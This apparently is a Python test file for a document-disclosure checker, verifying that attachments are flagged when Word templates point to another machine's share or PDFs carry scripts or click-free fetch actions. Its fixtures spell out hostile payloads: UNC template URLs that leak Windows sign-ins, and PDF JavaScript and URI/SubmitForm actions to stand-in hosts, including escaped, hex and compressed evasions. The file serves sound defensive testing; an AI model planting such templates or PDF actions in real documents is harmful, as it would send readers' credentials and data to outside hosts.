r"""Holes round seventeen's review left open (issue 24), each closed by its class rather than by one more pattern.
Each test goes through the real thing (`disclosure check`, `mkdocs build`, `disclosure import`) and failed on main
before its fix.
"""

from __future__ import annotations

from .sitekit import check, paired_policy, policy, write_site


def _attachment_codes(tmp_path, attachments: dict[str, bytes]) -> dict[str, set[str]]:
    """Each attachment's codes in `disclosure check` of a site publishing them all."""
    source = policy(attachments=[{"file": f"files/{name}", "title": name} for name in attachments])
    root = write_site(tmp_path, {**paired_policy(), "policies/a.md": source,
                                 **{f"policies/files/{name}": data for name, data in attachments.items()}})
    lines = check(root).coded_lines()
    found = {name: {line.split(" ")[1] for line in lines if f"附件“{name}”" in line} for name in attachments}
    assert all(any(f"附件“{name}”" in line for name in attachments) for line in lines), lines
    return found


# --- 6. a template on another machine, however the file: URL names it (privacy/attachment_parts.py, E404) --------

def _template(target: str) -> bytes:
    from .test_redteam15 import _template as template
    return template(target)


TEMPLATES_ELSEWHERE = {
    "unc-in-url.docx": _template("file:///\\\\fileserver.example.invalid\\share\\公文模板.dotm"),
    "four-slashes.docx": _template("file:////fileserver.example.invalid/share/公文模板.dotm"),
    "backslashes.docx": _template("file:\\\\fileserver.example.invalid\\share\\公文模板.dotm"),
    "two-then-unc.docx": _template("file://\\\\fileserver.example.invalid\\share\\公文模板.dotm"),
    "three-backslashes.docx": _template("\\\\\\fileserver.example.invalid\\share\\公文模板.dotm"),
}
TEMPLATES_HERE = {
    "drive.docx": _template("file:///C:/Users/admin/AppData/Roaming/Microsoft/Templates/公文模板.dotm"),
    "drive-backslash.docx": _template("file:///C:\\Users\\admin\\公文模板.dotm"),
    "localhost.docx": _template("file://localhost/C:/模板/公文模板.dotm"),
    "drive-bar.docx": _template("file:///C|/模板/公文模板.dotm"),
    "path.docx": _template("C:\\Users\\admin\\公文模板.dotm"),
}


def test_a_template_on_another_machine_is_refused_however_the_url_names_it(tmp_path):
    r"""Word fetches a document's template when opening it; one on another machine's share sends it the reader's
    Windows sign-in. `file:///\\host\share\x.dotm`, `file:////host/…` and other spellings of a share passed, as only
    file://host/ was read for one. Now a file: address is the reader's own disk only in the forms that name one
    (file:///C:/…, file://localhost/C:/…, file:///path); every other spelling is another machine (E404)."""
    found = _attachment_codes(tmp_path, {**TEMPLATES_ELSEWHERE, **TEMPLATES_HERE})
    assert {name for name, codes in found.items() if codes} == set(TEMPLATES_ELSEWHERE), found
    assert all(found[name] == {"E404"} for name in TEMPLATES_ELSEWHERE), found


# --- 5. PDF: a script anywhere, an action fetching with no click (privacy/attachment_pdf.py, E401, E404) -----------

def _widget(action: str) -> bytes:
    """A form's push button (a widget of field type Btn) whose click runs `action`."""
    from .attachmentkit import raw_pdf
    return raw_pdf("Notice text", annotations="<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (print) "
                                              f"/Rect [10 10 200 40] /P 3 0 R {action} >>")


def _packed_widget(action: bytes) -> bytes:
    """The push button's action packed compressed in an object stream (object 9), as Acrobat saves it."""
    import zlib
    head = b"9 0 "
    packed = zlib.compress(head + action)
    stream = (b"10 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
              % (len(head), len(packed)) + packed + b"\nendstream\nendobj\n")
    return _widget("/A 9 0 R").replace(b"xref", stream + b"xref", 1)


def _page_actions(actions: str) -> bytes:
    from .test_redteam17 import _pdf_opening
    return _pdf_opening("", page=f"/AA << {actions} >>")


LAUNCH_URL = "<< /S /JavaScript /JS (app.launchURL\\('https://x.example.invalid/'\\)) >>"
PDF_SCRIPTS = {   # E401: a script runs on the reader's machine
    "button-js.pdf": _widget(f"/A {LAUNCH_URL}"),
    "button-js-packed.pdf": _packed_widget(LAUNCH_URL.encode()),
    "button-js-escaped.pdf": _widget("/A << /S /Java#53cript /J#53 (this.submitForm\\('https://x.example.invalid/'\\)) >>"),
    "button-js-hex.pdf": _widget("/A << /S /JavaScript /JS <" + "app.alert(1)".encode().hex() + "> >>"),
    "button-js-stream.pdf": _widget("/A << /S /JavaScript /JS 4 0 R >>"),
    "page-close-js.pdf": _page_actions(f"/C {LAUNCH_URL}"),
    "field-keystroke-js.pdf": _widget(f"/AA << /K {LAUNCH_URL} >>"),
    "print-silently.pdf": _widget("/A << /S /JavaScript /JS (this.print\\({bUI: false, bSilent: true}\\)) >>"),
}
PDF_FETCHES = {   # E404: asks another host with no click
    "page-close-uri.pdf": _page_actions("/C << /S /URI /URI (https://track.example.invalid/closed) >>"),
    "hover-uri.pdf": _widget("/AA << /E << /S /URI /URI (https://track.example.invalid/hover) >> >>"),
    "focus-submit.pdf": _widget("/AA << /Fo << /S /SubmitForm /F << /FS /URL /F (https://collect.example.invalid/in) >> >> >>"),
}
PDF_KEPT = {   # a click on a plain link or button, Acrobat's own formatting and print/reset buttons
    "button-print.pdf": _widget("/A << /S /JavaScript /JS (this.print\\(\\);) >>"),
    "button-reset.pdf": _widget("/A << /S /JavaScript /JS (this.resetForm\\(\\);) >>"),
    "button-web.pdf": _widget("/A << /S /URI /URI (https://www.gov.cn/) >>"),
    "button-up-web.pdf": _widget("/AA << /U << /S /URI /URI (https://www.gov.cn/) >> >>"),
    "field-format.pdf": _widget("/AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\\\\u20ac \", true\\);) >> "
                                "/K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, \"\", true\\);) >> "
                                "/C << /S /JavaScript /JS (AFSimple_Calculate\\(\"SUM\", new Array \\(\"a\", \"b\"\\)\\);) >> >>"),
    "field-date.pdf": _widget("/AA << /K << /S /JavaScript /JS (AFDate_KeystrokeEx\\(\"yyyy-mm-dd\"\\)) >> >>"),
    "page-close-goto.pdf": _page_actions("/C << /S /GoTo /D [3 0 R /Fit] >>"),
}


def test_a_pdf_script_anywhere_or_a_fetch_with_no_click_is_refused(tmp_path):
    """Round seventeen read scripts run on opening and on a link's click: a form's push button whose click runs a
    script (app.launchURL, this.submitForm to another host), a page's script on closing (/C), a field's keystroke
    script, and a fetch on closing a page, hovering or focusing a field, passed. The class now: every script of the
    document (object streams included) is E401 unless it is recognised as harmless — Acrobat's own formatting calls
    (AFNumber_Format …) and a print or reset button, with plain values only; a script in a stream is not read, so not
    recognised. Every action that fetches from another host (URI, SubmitForm) is E404 unless a click runs it (a
    link's or button's action, a mouse-up)."""
    found = _attachment_codes(tmp_path, {**PDF_SCRIPTS, **PDF_FETCHES, **PDF_KEPT})
    assert {name for name, codes in found.items() if "E401" in codes} == set(PDF_SCRIPTS), found
    assert {name for name, codes in found.items() if "E404" in codes} == set(PDF_FETCHES), found
    assert all(not found[name] for name in PDF_KEPT), found
